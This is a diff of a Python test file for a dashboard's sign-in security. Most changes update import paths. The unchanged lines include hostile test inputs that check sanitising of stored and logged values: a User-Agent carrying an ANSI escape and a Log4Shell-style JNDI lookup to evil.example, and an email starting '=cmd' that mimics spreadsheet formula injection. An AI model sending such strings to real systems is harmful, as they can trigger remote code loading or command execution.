@@ -9,11 +9,11 @@ import pytest
 from sqlalchemy import delete, select
 from starlette.testclient import TestClient
 
-from core import database
-from core.actors import Actor
-from core.models import AuditEvent, AuthSession, SignInThrottle
-from core.telemetry import LineFormatter
-from dashboard import sign_in_queue as room
+from core.access.permissions import Actor
+from core.db import engine
+from core.db.models import AuditEvent, AuthSession, SignInThrottle
+from core.telemetry.setup import LineFormatter
+from dashboard.sign_in import attempt_queue as room
 from tests.conftest import make_user
 from tests.dashboard.conftest import EMAIL, HTML, House, sign_in
 
@@ -23,7 +23,7 @@ HOSTILE_AGENT = "Mozilla\x1b[31m ${jndi:ldap://evil.example/x}"
 
 def seconds(email: str) -> float:
     """How long a wrong password takes, with the throttle as if nothing had happened."""
-    with database.transaction() as db:
+    with engine.transaction() as db:
         db.execute(delete(SignInThrottle))
     given = room.Credentials(email, "not the password", "192.0.2.1", None, None)
     begun = perf_counter()
@@ -58,7 +58,7 @@ def test_a_download_needs_the_session_of_its_moment(house: House, insider: TestC
 def test_an_error_page_shows_a_trace_and_nothing_else(
     insider: TestClient, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr("dashboard.unexpected.trace_id", lambda: "0123456789abcdef" * 2)
+    monkeypatch.setattr("dashboard.web.error_page.trace_id", lambda: "0123456789abcdef" * 2)
     for headers in (HTML, {}):
         answer = insider.get("/broken", headers=headers)
         assert answer.status_code == 500
@@ -71,7 +71,7 @@ def test_a_hostile_user_agent_stays_on_its_line(
 ) -> None:
     client.headers["User-Agent"] = HOSTILE_AGENT
     assert sign_in(client).status_code == 303
-    with database.transaction() as db:
+    with engine.transaction() as db:
         stored = db.scalars(select(AuthSession.user_agent)).one() or ""
     assert stored == HOSTILE_AGENT.replace("\x1b", "?")
     record = logging.LogRecord("tally", logging.INFO, "", 0, "%s", (f"{HOSTILE_AGENT}\nx",), None)
@@ -83,6 +83,6 @@ def test_a_hostile_user_agent_stays_on_its_line(
 def test_an_address_of_a_failed_attempt_is_kept_as_one_printable_line(client: TestClient) -> None:
     for email in ("x\u2028y@example.com", "=cmd@example.com"):
         sign_in(client, email)
-    with database.transaction() as db:
+    with engine.transaction() as db:
         actors = db.scalars(select(AuditEvent.actor).where(AuditEvent.outcome == "refused")).all()
     assert all(actor.isprintable() for actor in actors)
